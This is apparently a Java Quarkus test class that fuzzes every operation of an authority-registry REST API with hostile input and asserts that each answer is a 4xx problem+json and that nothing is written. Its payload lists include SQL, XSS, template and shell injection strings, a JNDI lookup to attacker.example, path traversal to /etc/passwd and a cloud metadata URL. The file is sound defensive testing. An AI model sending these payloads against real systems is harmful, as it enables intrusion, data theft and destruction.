package eu.authorityhub.api;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.UUID;

import jakarta.inject.Inject;
import jakarta.persistence.EntityManager;

import org.junit.jupiter.api.Test;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;

import eu.authorityhub.testing.Fixtures;
import eu.authorityhub.testing.Tokens;
import io.quarkus.narayana.jta.QuarkusTransaction;
import io.quarkus.test.junit.QuarkusTest;

/**
 * Hostile input over every operation of the OpenAPI document, generated from the document itself: wrong types, huge
 * strings, deep nesting, invalid UTF-8, injection strings, negative and huge numbers, unknown enum values, missing and
 * duplicated fields, broken JSON, hostile path and query parameters. The caller holds every role and acts for a real
 * authority and a real coordinator, so that requests reach validation. Every answer must be a 4xx problem+json with a
 * code (a read may also answer 2xx: searching for an odd string is allowed), never a 5xx, and no table the API
 * writes may change.
 */
@QuarkusTest
class HostileInputTest {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final List<String> STRINGS = List.of("' OR '1'='1", "'; DROP TABLE authority; --",
            "1; SELECT pg_sleep(10)", "\" OR \"\"=\"", "admin'--", "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>", "javascript:alert(1)", "${jndi:ldap://attacker.example/a}",
            "#{7*7}", "{{7*7}}", "<%= 7*7 %>", "$(reboot)", "`id`", "| cat /etc/passwd", "../../../../etc/passwd",
            "..\\..\\windows\\win.ini", "file:///etc/passwd", "http://169.254.169.254/latest/meta-data",
            "*)(uid=*))(|(uid=*", "//user[name/text()='x' or '1'='1']", "{\"$gt\": \"\"}", "\u0000",
            "\u202e\u0000\ufeff", "%00%0d%0aSet-Cookie: x=y", "\r\nX-Injected: 1", "\\u0000", "NaN", "-1",
            "1e309", "\ud83d\ude00".repeat(300), "\ud800", "a".repeat(5_000), " ", "", "null", "true",
            "0x7fffffff", "-0", "\u00e9\u0301\u0000", "\u3000\u200b", "AAAA%n%n%n%s%s");
    private static final List<String> PATH_VALUES = List.of("not-a-uuid", "-1", "99999999999999999999999",
            "A".repeat(3_000), "%C3%28", "%00", "'%20OR%201=1--", "..%2F..%2Fetc%2Fpasswd", "%E2%82", "%FF%FE",
            "00000000-0000-0000-0000-00000000000g");
    private static final List<String> QUERY_VALUES = List.of("' OR 1=1--", "-1", "99999999999999999999999", "NaN",
            "not-a-date", "2026-13-45", "x".repeat(3_000), "\u0000", "NOT_A_VALUE", "%C3%28", "<script>", "[]");
    /** The tables the API writes; none may change. */
    private static final List<String> TABLES = List.of("authority", "coordinator", "information_request",
            "request_attachment", "request_timeline", "alert", "alert_recipient", "deadline_timer", "deadline_note",
            "outbox_message", "idempotency_record", "webhook_subscription", "webhook_secret", "webhook_allow_list");

    @Inject
    EntityManager em;

    private String authority;
    private String coordinator;

    @Test
    void aNulCharacterIsRefusedNotAnIncident() {
        // found by the hostile input below: PostgreSQL stores no NUL, and the search answered 500
        given().auth().oauth2(Tokens.caseHandler()).queryParam("name", "a\u0000b").get("/api/v1/authorities").then()
                .statusCode(400).contentType("application/problem+json")
                .body("code", org.hamcrest.Matchers.equalTo("UNSUPPORTED_CHARACTER"));
        String code = Fixtures.authorityCode("DK");
        given().auth().oauth2(Tokens.admin()).contentType("application/json").body(Fixtures.authorityJson(code, "DK",
                "Nul\\u0000Authority")).post("/api/v1/authorities").then().statusCode(400)
                .body("code", org.hamcrest.Matchers.equalTo("UNSUPPORTED_CHARACTER"));
        given().get("/api/v1/authorities/" + code).then().statusCode(404);
        given().auth().oauth2(Tokens.caseHandler()).get("/api/v1/authorities/" + "A".repeat(9_000)).then()
                .statusCode(414).contentType("application/problem+json")
                .body("code", org.hamcrest.Matchers.equalTo("URI_TOO_LONG"));
    }

    @Test
    void everyOperationAnswersHostileInputWithAProblemAndWritesNothing() throws Exception {
        authority = Fixtures.authorityCode("DK");
        coordinator = authority.replace("-T", "-C");
        Fixtures.createAuthority(authority, "DK", "NURSE");
        given().auth().oauth2(Tokens.admin()).contentType("application/json").body("""
                {"code":"%s","kind":"NATIONAL","memberState":"DK","name":"Hostile coordinator"}"""
                .formatted(coordinator)).post("/api/v1/coordinators").then().statusCode(201);
        String token = Tokens.builder("hostile", Tokens.allRoles().toArray(String[]::new))
                .claim("authority", authority).claim("coordinator", coordinator).sign();

        JsonNode openapi = JSON.readTree(given().get("/q/openapi?format=json").asString());
        Map<String, Long> before = counts();
        Map<String, Integer> byStatus = new TreeMap<>();
        List<String> violations = new ArrayList<>();
        int total = 0;
        Iterator<Map.Entry<String, JsonNode>> paths = openapi.get("paths").fields();
        while (paths.hasNext()) {
            Map.Entry<String, JsonNode> path = paths.next();
            Iterator<Map.Entry<String, JsonNode>> ops = path.getValue().fields();
            while (ops.hasNext()) {
                Map.Entry<String, JsonNode> op = ops.next();
                String method = op.getKey().toUpperCase();
                for (Case c : cases(openapi, path.getKey(), method, op.getValue())) {
                    Answer r = send(token, c);
                    total++;
                    byStatus.merge(r.status() / 100 + "xx", 1, Integer::sum);
                    String problem = check(method, r);
                    if (problem != null && violations.size() < 50) {
                        violations.add(method + " " + c.path() + " [" + c.what() + "]: " + problem);
                    }
                }
            }
        }
        Map<String, Long> after = counts();
        System.out.printf("hostile input: %d requests over %d paths; answers %s; violations %d%n", total,
                openapi.get("paths").size(), byStatus, violations.size());
        assertThat(violations).isEmpty();
        assertThat(after).as("nothing written").isEqualTo(before);
        assertThat(total).isGreaterThanOrEqualTo(10_000);
    }

    /** @return what is wrong with the answer, or null */
    private static String check(String method, Answer r) {
        int s = r.status();
        if (s >= 500) {
            return "answered " + s + ": " + r.body();
        }
        if (s >= 400) {
            String type = r.contentType();
            if (type == null || !type.startsWith("application/problem+json")) {
                return s + " without problem+json (" + type + ")";
            }
            String code;
            try {
                code = JSON.readTree(r.body()).path("code").asText(null);
            } catch (java.io.IOException e) {
                return s + " with a body that is not JSON";
            }
            if (code == null || code.isBlank()) {
                return s + " without a code";
            }
            if (r.body().contains("Exception") || r.body().contains("at java.") || r.body().contains(
                    "org.hibernate")) {
                return s + " leaks internals: " + r.body();
            }
            return null;
        }
        return method.equals("GET") ? null : "a hostile " + method + " answered " + s;
    }

    record Case(String what, String method, String path, Map<String, String> query, byte[] body, String contentType) {
    }

    private List<Case> cases(JsonNode openapi, String template, String method, JsonNode op) {
        List<Case> out = new ArrayList<>();
        String plain = fill(template, null);
        String contentType = null;
        JsonNode schema = null;
        if (op.has("requestBody")) {
            JsonNode content = op.get("requestBody").get("content");
            contentType = content.fieldNames().next();
            schema = resolve(openapi, content.get(contentType).get("schema"));
        }
        byte[] skeleton = schema == null ? null : bytes(skeleton(openapi, schema, 0).toString());
        // hostile path parameters
        if (template.contains("{")) {
            List<String> pathValues = new ArrayList<>(PATH_VALUES);
            STRINGS.stream().filter(x -> !x.isEmpty() && x.length() < 1_000).map(x -> java.net.URLEncoder.encode(x,
                    StandardCharsets.UTF_8)).forEach(pathValues::add);
            for (String v : pathValues) {
                out.add(new Case("path " + v.substring(0, Math.min(20, v.length())), method, fill(template, v),
                        Map.of(),
                        skeleton, contentType));
            }
        }
        // hostile query parameters
        for (JsonNode p : op.path("parameters")) {
            if (!"query".equals(p.path("in").asText())) {
                continue;
            }
            for (String v : queryValues()) {
                out.add(new Case("query " + p.get("name").asText(), method, plain, Map.of(p.get("name").asText(), v),
                        skeleton, contentType));
            }
        }
        if (schema == null) {
            return out;
        }
        // broken bodies
        for (String raw : List.of("{", "[]", "null", "\"text\"", "12", "{\"a\":", "", "{}}", "{\"a\":1,}", "\ufeff{}",
                "{'single':'quotes'}", "{\"x\":NaN}", "[".repeat(3_000))) {
            out.add(new Case("raw " + raw.substring(0, Math.min(10, raw.length())), method, plain, Map.of(), bytes(raw),
                    contentType));
        }
        out.add(new Case("invalid utf-8", method, plain, Map.of(), new byte[]{'{', '"', 'a', '"', ':', '"', (byte) 0xC3,
                0x28, (byte) 0xFF, '"', '}'}, contentType));
        out.add(new Case("2 MB", method, plain, Map.of(), bytes("{\"a\":\"" + "x".repeat(2_000_000) + "\"}"),
                contentType));
        // every property, mutated
        JsonNode props = schema.path("properties");
        Iterator<Map.Entry<String, JsonNode>> it = props.fields();
        while (it.hasNext()) {
            Map.Entry<String, JsonNode> prop = it.next();
            String name = prop.getKey();
            JsonNode ps = resolve(openapi, prop.getValue());
            List<String> values = new ArrayList<>(List.of("12345", "true", "{}", "[]", "null", "-1",
                    "-9223372036854775809", "9223372036854775808", "1e309", "1.5", "\"NOT_A_VALUE\"",
                    "{\"$gt\":\"\"}", "[".repeat(1_500) + "]".repeat(1_500), "\"" + "x".repeat(20_000) + "\""));
            for (String s : STRINGS) {
                values.add(JSON.valueToTree(s).toString());
            }
            for (String h : STRINGS.subList(0, 12)) {
                values.add("[" + JSON.valueToTree(h) + ",12,null,{}]");
            }
            for (String v : values) {
                out.add(new Case(name + "=" + v.substring(0, Math.min(20, v.length())), method, plain, Map.of(), bytes(
                        replace(skeleton, name, v)), contentType));
            }
            // missing, duplicated, invalid UTF-8 inside the value
            ObjectNode missing = (ObjectNode) skeleton(openapi, schema, 0);
            missing.remove(name);
            out.add(new Case("missing " + name, method, plain, Map.of(), bytes(missing.toString()), contentType));
            String text = new String(skeleton, StandardCharsets.UTF_8);
            out.add(new Case("duplicate " + name, method, plain, Map.of(), bytes(text.substring(0, text.length() - 1)
                    + ",\"" + name + "\":\"again\"}"), contentType));
            byte[] broken = bytes(replace(skeleton, name, "\"\u0001MARK\""));
            String b = new String(broken, StandardCharsets.ISO_8859_1).replace("\u0001MARK", "\u00c3\u0028\u00ff");
            out.add(new Case("bad utf-8 in " + name, method, plain, Map.of(), b.getBytes(StandardCharsets.ISO_8859_1),
                    contentType));
        }
        out.add(new Case("unknown field", method, plain, Map.of(), bytes(replace(skeleton, "zzUnknown", "1")),
                contentType));
        return out;
    }

    private static List<String> queryValues() {
        List<String> all = new ArrayList<>(QUERY_VALUES);
        STRINGS.stream().filter(x -> x.length() < 2_000).forEach(all::add);
        return all;
    }

    private static String replace(byte[] skeleton, String name, String rawValue) {
        try {
            ObjectNode o = (ObjectNode) JSON.readTree(skeleton);
            o.remove(name);
            String text = o.toString();
            String sep = text.equals("{}") ? "" : ",";
            return "{\"" + name + "\":" + rawValue + sep + text.substring(1);
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    /** A body of the schema's shape with harmless values (which rarely pass validation as a whole). */
    private JsonNode skeleton(JsonNode openapi, JsonNode schema, int depth) {
        ObjectNode o = JSON.createObjectNode();
        Iterator<Map.Entry<String, JsonNode>> it = schema.path("properties").fields();
        while (it.hasNext()) {
            Map.Entry<String, JsonNode> p = it.next();
            JsonNode ps = resolve(openapi, p.getValue());
            String type = ps.path("type").asText(ps.has("enum") ? "string" : "object");
            switch (type) {
                case "string" -> o.put(p.getKey(), ps.has("enum") ? ps.get("enum").get(0).asText() : "x");
                case "integer", "number" -> o.put(p.getKey(), 1);
                case "boolean" -> o.put(p.getKey(), true);
                case "array" -> o.putArray(p.getKey());
                default -> o.set(p.getKey(), depth < 3 ? skeleton(openapi, ps, depth + 1) : JSON.createObjectNode());
            }
        }
        return o;
    }

    private static JsonNode resolve(JsonNode openapi, JsonNode schema) {
        JsonNode s = schema;
        for (int i = 0; i < 5 && s != null; i++) {
            if (s.has("$ref")) {
                String[] ref = s.get("$ref").asText().split("/");
                s = openapi.get("components").get("schemas").get(ref[ref.length - 1]);
            } else if (s.has("allOf")) {
                s = s.get("allOf").get(0);
            } else if (s.has("anyOf") || s.has("oneOf")) {
                s = s.has("anyOf") ? s.get("anyOf").get(0) : s.get("oneOf").get(0);
            } else {
                break;
            }
        }
        return s == null ? JSON.createObjectNode() : s;
    }

    /** Path parameters: the hostile value, else plausible values that name nothing. */
    private String fill(String template, String hostile) {
        String p = template;
        if (hostile != null) {
            return p.replaceAll("\\{[^}]+}", java.util.regex.Matcher.quoteReplacement(hostile));
        }
        return p.replace("{code}", "DK-NOPE").replace("{owner}", "DK-NOPE").replace("{deliveryId}", "987654321")
                .replaceAll("\\{[^}]*[iI]d}", UUID.randomUUID().toString());
    }

    /** Plain JDK HTTP: fast enough for ten thousand requests, and it sends exactly the bytes it is given. */
    private static final java.net.http.HttpClient HTTP = java.net.http.HttpClient.newBuilder()
            .version(java.net.http.HttpClient.Version.HTTP_1_1).build();

    record Answer(int status, String contentType, String body) {
    }

    private static Answer send(String token, Case c) throws Exception {
        StringBuilder uri = new StringBuilder("http://localhost:").append(io.restassured.RestAssured.port)
                .append(c.path());
        String sep = "?";
        for (Map.Entry<String, String> q : c.query().entrySet()) {
            String v = q.getValue();
            uri.append(sep).append(q.getKey()).append('=').append(v.matches("(%[0-9A-F]{2})+")
                    ? v
                    : java.net.URLEncoder
                            .encode(v, StandardCharsets.UTF_8));
            sep = "&";
        }
        var request = java.net.http.HttpRequest.newBuilder(java.net.URI.create(uri.toString()))
                .header("Authorization", "Bearer " + token).timeout(java.time.Duration.ofSeconds(30));
        if (c.body() != null) {
            request.header("Content-Type", c.contentType()).method(c.method(), java.net.http.HttpRequest.BodyPublishers
                    .ofByteArray(c.body()));
        } else {
            request.method(c.method(), java.net.http.HttpRequest.BodyPublishers.noBody());
        }
        var response = HTTP.send(request.build(), java.net.http.HttpResponse.BodyHandlers.ofString());
        return new Answer(response.statusCode(), response.headers().firstValue("content-type").orElse(null),
                response.body());
    }

    private Map<String, Long> counts() {
        return QuarkusTransaction.requiringNew().call(() -> {
            Map<String, Long> m = new LinkedHashMap<>();
            for (String t : TABLES) {
                m.put(t, ((Number) em.createNativeQuery("select count(*) from " + t).getSingleResult()).longValue());
            }
            return m;
        });
    }

    private static byte[] bytes(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }
}
